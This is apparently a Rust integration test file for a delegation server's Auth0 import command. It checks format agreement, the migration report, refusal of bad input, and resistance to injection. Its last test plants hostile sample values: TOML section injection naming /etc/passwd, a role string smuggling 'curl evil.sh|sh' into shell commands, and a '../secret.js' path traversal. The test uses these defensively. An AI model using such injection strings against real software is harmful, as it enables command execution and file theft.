//! `delegation-server import auth0` on the fixtures of tests/fixtures/auth0/, one tenant in
//! the three export formats: what it writes, that the formats agree, what the report says,
//! and that bad input is refused by name with nothing written. The end-to-end delegation on
//! an imported configuration is in tests/api/import.rs.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_delegation-server");

fn fixture(part: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/auth0")
        .join(part)
}

/// The placeholders of the fixtures, and the client IDs the YAML export lacks.
const KEYWORDS: [&str; 6] = [
    "--keyword",
    "SPA_HOST=spa.example.com",
    "--keyword",
    "DEFAULT_DEPARTMENT=finance",
    "--keyword",
    "ENVIRONMENT=prod",
];

fn import(sources: &[PathBuf], out: &Path, extra: &[&str]) -> Output {
    let mut command = Command::new(BIN);
    command
        .args(["import", "auth0"])
        .args(sources)
        .arg("--out")
        .arg(out);
    command.args(extra).output().expect("run delegation-server")
}

fn text(output: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

/// Imports each format; returns (name, output directory).
fn import_all(dir: &Path) -> Vec<(&'static str, PathBuf)> {
    let ids = fixture("management/clients.json");
    let ids = ids.to_str().unwrap();
    let mut yaml_args = KEYWORDS.to_vec();
    yaml_args.extend(["--ids-from", ids]);
    let mut management_args = KEYWORDS.to_vec();
    management_args.extend(["--tenant-domain", "example-tenant.eu.auth0.com"]);
    let cases: [(&str, Vec<PathBuf>, Vec<&str>); 3] = [
        ("yaml", vec![fixture("yaml/tenant.yaml")], yaml_args),
        ("directory", vec![fixture("directory")], KEYWORDS.to_vec()),
        (
            "management",
            vec![
                fixture("management/clients.json"),
                fixture("management/rules.json"),
            ],
            management_args,
        ),
    ];
    cases
        .into_iter()
        .map(|(name, sources, args)| {
            let out = dir.join(name);
            let output = import(&sources, &out, &args);
            assert!(output.status.success(), "{name}: {}", text(&output));
            (name, out)
        })
        .collect()
}

fn check_config(out: &Path) -> String {
    let output = Command::new(BIN)
        .arg("check-config")
        .arg("--config")
        .arg(out.join("delegation.toml"))
        .output()
        .unwrap();
    assert!(output.status.success(), "{}", text(&output));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

#[test]
fn the_three_formats_import_to_the_same_working_configuration() {
    let dir = tempfile::tempdir().unwrap();
    let outs = import_all(dir.path());
    let summaries: Vec<String> = outs.iter().map(|(_, out)| check_config(out)).collect();
    for (i, (name, _)) in outs.iter().enumerate() {
        assert_eq!(summaries[i], summaries[0], "{name} differs from yaml");
    }
    let summary = &summaries[0];
    for expected in [
        "issuer: https://example-tenant.eu.auth0.com/ [HS256, RS256]",
        "client: web-client-id-0001 role=arn:aws:iam::123456789012:role/web-role callers=1",
        "client: spa-client-id-0001 role=- callers=0",
        "client: legacy-client-id-0001 role=arn:aws:iam::123456789012:role/legacy-role callers=0",
        "rules: 4 compiled, in order: rules/01-set-department.js, rules/02-role-from-department.js, rules/04-sync-metadata.js, rules/05-tag-environment.js",
    ] {
        assert!(summary.contains(expected), "{expected}\n{summary}");
    }
    assert!(
        !summary.contains("marketing"),
        "an application nobody needs was kept"
    );
    let (_, out) = &outs[0];
    let config = std::fs::read_to_string(out.join("delegation.toml")).unwrap();
    assert!(
        config.contains("# \"rules/03-disabled-override.js\","),
        "{config}"
    );
    assert!(config.contains("DEFAULT_DEPARTMENT = \"finance\""));
    assert!(config.contains("# API_KEY = \"\""), "a value was made up");
    assert!(
        config.contains("# client_secret = \"\""),
        "a secret was made up"
    );
    assert!(config.contains("cors_origins = [\"https://app.example.com\"]"));
    // Every key from the export says where it came from.
    assert!(config.contains("# Web App ("), "{config}");
    let disabled = std::fs::read_to_string(out.join("rules/03-disabled-override.js")).unwrap();
    assert!(disabled.contains("disabled-role"));
    let tagged = std::fs::read_to_string(out.join("rules/05-tag-environment.js")).unwrap();
    assert!(tagged.contains("user.environment = 'prod'"), "{tagged}");
    let key = out.join("keys/saml.key");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&key).unwrap().permissions().mode();
        assert_eq!(mode & 0o077, 0, "the SAML key is readable by others");
    }
    assert!(!dir.path().read_dir().unwrap().any(|e| {
        e.unwrap()
            .file_name()
            .to_string_lossy()
            .starts_with(".import-")
    }));
}

#[test]
fn the_report_says_what_became_of_each_application_and_what_to_do_in_each_rule() {
    let dir = tempfile::tempdir().unwrap();
    let outs = import_all(dir.path());
    for (name, out) in outs {
        let report = std::fs::read_to_string(out.join("MIGRATION.md")).unwrap();
        for expected in [
            "| Web App | `web-client-id-0001` | AWS target, 3600 s | `arn:aws:iam::123456789012:role/web-role`",
            "`Marketing Site`: no AWS add-on",
            "`Legacy` had an empty allowed_clients, which in Auth0 let every application",
            "`Legacy` signs its id_tokens with HS256",
            "origin `https://*.example.com` is not an exact origin",
            "rule `Pre-Authorize-Check` runs at stage `pre_authorize`",
            "rules/04-sync-metadata.js:6: uses the Management API (`auth0.users`)",
            "rules/05-tag-environment.js:3: refuses with `UnauthorizedError`, which works here",
            "aws iam create-saml-provider --name delegation-server",
            "aws iam update-assume-role-policy --role-name web-role",
            "aws iam update-assume-role-policy --role-name finance-role",
            "create-open-id-connect-provider",
            "**Auth0's signing key.**",
            "**refresh_token delegation.**",
        ] {
            assert!(report.contains(expected), "{name}: {expected}\n{report}");
        }
        // Rule settings come with deploy-cli's formats; their values never do.
        let listed = name != "management";
        assert_eq!(
            report.contains("rule setting `API_KEY` has no value"),
            listed,
            "{name}"
        );
        assert!(
            !report.contains("configuration.DEFAULT_DEPARTMENT"),
            "{name}: the --keyword value was not used"
        );
    }
}

/// Runs an import expected to fail: the error names `names`, and nothing is written.
fn refused(sources: &[PathBuf], extra: &[&str], names: &[&str]) {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    let output = import(sources, &out, extra);
    let said = text(&output);
    assert!(!output.status.success(), "{said}");
    for name in names {
        assert!(said.contains(name), "`{name}` not in: {said}");
    }
    assert!(!out.exists(), "something was written: {said}");
    let left: Vec<_> = dir.path().read_dir().unwrap().collect();
    assert!(left.is_empty(), "staging left behind");
}

/// A copy of a fixture directory to change.
fn copy_of(part: &str, into: &Path) -> PathBuf {
    fn copy(from: &Path, to: &Path) {
        std::fs::create_dir_all(to).unwrap();
        for entry in std::fs::read_dir(from).unwrap() {
            let path = entry.unwrap().path();
            let target = to.join(path.file_name().unwrap());
            if path.is_dir() {
                copy(&path, &target);
            } else {
                std::fs::copy(&path, &target).unwrap();
            }
        }
    }
    let to = into.join(part.replace('/', "-"));
    copy(&fixture(part), &to);
    to
}

#[test]
fn bad_input_is_refused_by_file_and_field_and_nothing_is_written() {
    let scratch = tempfile::tempdir().unwrap();
    // An unreadable export.
    refused(
        &[scratch.path().join("missing.yaml")],
        &KEYWORDS,
        &["missing.yaml"],
    );
    let garbled = scratch.path().join("clients.json");
    std::fs::write(&garbled, "[{\"name\": ").unwrap();
    refused(&[garbled], &KEYWORDS, &["clients.json", "not JSON"]);

    // A malformed role ARN.
    let dir = copy_of("directory", scratch.path());
    let web = dir.join("clients/Web App.json");
    let text = std::fs::read_to_string(&web).unwrap();
    std::fs::write(
        &web,
        text.replace("arn:aws:iam::123456789012:role/web-role", "web-role"),
    )
    .unwrap();
    refused(&[dir], &KEYWORDS, &["Web App.json", "addons.aws.role"]);

    // A rule file that is missing.
    let yaml = copy_of("yaml", scratch.path());
    std::fs::remove_file(yaml.join("rules/Sync-Metadata.js")).unwrap();
    let mut args = KEYWORDS.to_vec();
    let ids = fixture("management/clients.json");
    args.extend(["--ids-from", ids.to_str().unwrap()]);
    refused(
        &[yaml.join("tenant.yaml")],
        &args,
        &["rules[3]", "`script`", "Sync-Metadata.js"],
    );

    // Two applications with one name, where deploy-cli identifies them by name.
    let dir = copy_of("directory", scratch.path());
    std::fs::copy(
        dir.join("clients/Web App.json"),
        dir.join("clients/Web App copy.json"),
    )
    .unwrap();
    refused(
        &[dir],
        &KEYWORDS,
        &["two applications are named `Web App`", "Web App copy.json"],
    );
    // Two applications with one client ID, in the Management API's answer.
    let clients = scratch.path().join("dup.json");
    let mut list: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(fixture("management/clients.json")).unwrap())
            .unwrap();
    let mut copy = list[0].clone();
    copy["name"] = serde_json::json!("Web App again");
    list.as_array_mut().unwrap().push(copy);
    std::fs::write(&clients, list.to_string()).unwrap();
    let mut args = KEYWORDS.to_vec();
    args.extend(["--tenant-domain", "example-tenant.eu.auth0.com"]);
    refused(
        std::slice::from_ref(&clients),
        &args,
        &["dup.json[0]", "dup.json[4]", "same client ID"],
    );
    // --ids-from with two applications of one name cannot be read by name.
    let mut ids_args = KEYWORDS.to_vec();
    ids_args.extend(["--ids-from", clients.to_str().unwrap()]);
    let mut same_name = list.clone();
    same_name[4]["name"] = serde_json::json!("Web App");
    same_name[4]["client_id"] = serde_json::json!("other-id");
    std::fs::write(&clients, same_name.to_string()).unwrap();
    refused(
        &[fixture("yaml/tenant.yaml")],
        &ids_args,
        &["dup.json", "[0] and [4]", "`Web App`"],
    );
    // A tenant domain that is not a host name.
    let mut bad_domain = KEYWORDS.to_vec();
    bad_domain.extend(["--tenant-domain", "evil.example/x?y#"]);
    refused(
        &[
            fixture("management/clients.json"),
            fixture("management/rules.json"),
        ],
        &bad_domain,
        &["tenant domain", "not a host name"],
    );
    // YAML aliases, which deploy-cli never writes (and which can expand without bound).
    let yaml = copy_of("yaml", scratch.path());
    let tenant = std::fs::read_to_string(yaml.join("tenant.yaml")).unwrap();
    let aliased = tenant.replacen("tenant:\n", "tenant: &t\n", 1) + "again: *t\n";
    std::fs::write(yaml.join("tenant.yaml"), aliased).unwrap();
    refused(
        &[yaml.join("tenant.yaml")],
        &KEYWORDS,
        &["tenant.yaml", "aliases"],
    );

    // A placeholder without a value.
    refused(
        &[fixture("directory")],
        &KEYWORDS[..4],
        &["Tag-Environment.js", "##ENVIRONMENT##", "--keyword"],
    );

    // Without the tenant's domain.
    refused(
        &[
            fixture("management/clients.json"),
            fixture("management/rules.json"),
        ],
        &KEYWORDS,
        &["--tenant-domain"],
    );
}

#[test]
fn applications_without_a_client_id_are_named_and_left_out() {
    let scratch = tempfile::tempdir().unwrap();
    // deploy-cli's default export has no IDs: nothing can be configured without them.
    refused(
        &[fixture("yaml/tenant.yaml")],
        &KEYWORDS,
        &[
            "no application could be configured",
            "--client-id \"Web App=ID\"",
        ],
    );
    let out = scratch.path().join("out");
    let mut args = KEYWORDS.to_vec();
    args.extend([
        "--client-id",
        "Web App=web-client-id-0001",
        "--client-id",
        "SPA=spa-client-id-0001",
    ]);
    let output = import(&[fixture("yaml/tenant.yaml")], &out, &args);
    assert!(output.status.success(), "{}", text(&output));
    let report = std::fs::read_to_string(out.join("MIGRATION.md")).unwrap();
    assert!(report.contains("`Legacy` has no client ID"), "{report}");
    let config = std::fs::read_to_string(out.join("delegation.toml")).unwrap();
    assert!(!config.contains("legacy-role"));
    assert!(config.contains("allowed_callers = [\"spa-client-id-0001\"]"));
}

#[test]
fn an_existing_directory_is_never_overwritten_and_existing_keys_can_be_used() {
    let scratch = tempfile::tempdir().unwrap();
    let out = scratch.path().join("out");
    std::fs::create_dir(&out).unwrap();
    std::fs::write(out.join("delegation.toml"), "keep me").unwrap();
    let output = import(&[fixture("directory")], &out, &KEYWORDS);
    assert!(!output.status.success());
    assert!(text(&output).contains("is not empty"));
    assert_eq!(
        std::fs::read_to_string(out.join("delegation.toml")).unwrap(),
        "keep me"
    );

    let keys = scratch.path().join("keys");
    let made = Command::new(BIN)
        .args(["keygen", "--out"])
        .arg(&keys)
        .output()
        .unwrap();
    assert!(made.status.success());
    let second = scratch.path().join("second");
    let mut args = KEYWORDS.to_vec();
    args.extend(["--keys", keys.to_str().unwrap()]);
    let output = import(&[fixture("directory")], &second, &args);
    assert!(output.status.success(), "{}", text(&output));
    assert!(!second.join("keys").exists());
    let config = std::fs::read_to_string(second.join("delegation.toml")).unwrap();
    assert!(config.contains(&format!(
        "{}",
        keys.canonicalize().unwrap().join("saml.key").display()
    )));
    check_config(&second);
}

#[test]
fn text_from_the_export_cannot_add_configuration_or_reach_other_files() {
    let scratch = tempfile::tempdir().unwrap();
    // Names with line breaks end up in comments: they must stay comments.
    let evil = "Web App\n[admin]\ntoken_file = \"/etc/passwd\"\u{7f}";
    let mut clients: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(fixture("management/clients.json")).unwrap())
            .unwrap();
    clients[0]["name"] = serde_json::json!(evil);
    let mut rules: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(fixture("management/rules.json")).unwrap())
            .unwrap();
    rules[0]["name"] = serde_json::json!("Set\n[server]\nlisten = \"0.0.0.0:1\"");
    // A role-like text in a rule never reaches the shell commands of the report as it is.
    rules[1]["script"] = serde_json::json!(
        "function (u, c, cb) { var r = 'arn:aws:iam::123456789012:role/a&&curl${IFS}evil.sh|sh'; cb(null, u, c); }"
    );
    let (clients_file, rules_file) = (
        scratch.path().join("clients.json"),
        scratch.path().join("rules.json"),
    );
    std::fs::write(&clients_file, clients.to_string()).unwrap();
    std::fs::write(&rules_file, rules.to_string()).unwrap();
    let out = scratch.path().join("out");
    let mut args = KEYWORDS.to_vec();
    args.extend(["--tenant-domain", "example-tenant.eu.auth0.com"]);
    let output = import(&[clients_file, rules_file], &out, &args);
    assert!(output.status.success(), "{}", text(&output));
    let config = std::fs::read_to_string(out.join("delegation.toml")).unwrap();
    assert!(
        !config
            .lines()
            .any(|l| l.starts_with("[admin]") || l.starts_with("token_file")),
        "{config}"
    );
    assert_eq!(
        config.lines().filter(|l| l.starts_with("listen")).count(),
        1,
        "{config}"
    );
    assert!(check_config(&out).contains("listen: 0.0.0.0:8080"));
    let report = std::fs::read_to_string(out.join("MIGRATION.md")).unwrap();
    assert!(!report.contains("&&curl"), "{report}");
    assert!(report.contains("--role-name web-role"));

    // A rule script outside the export's directory is not read.
    let yaml = copy_of("yaml", scratch.path());
    std::fs::write(scratch.path().join("secret.js"), "stolen").unwrap();
    let tenant = std::fs::read_to_string(yaml.join("tenant.yaml")).unwrap();
    std::fs::write(
        yaml.join("tenant.yaml"),
        tenant.replace("./rules/Sync-Metadata.js", "../secret.js"),
    )
    .unwrap();
    let mut args = KEYWORDS.to_vec();
    let ids = fixture("management/clients.json");
    args.extend(["--ids-from", ids.to_str().unwrap()]);
    refused(&[yaml.join("tenant.yaml")], &args, &["rules[3]", "outside"]);
}
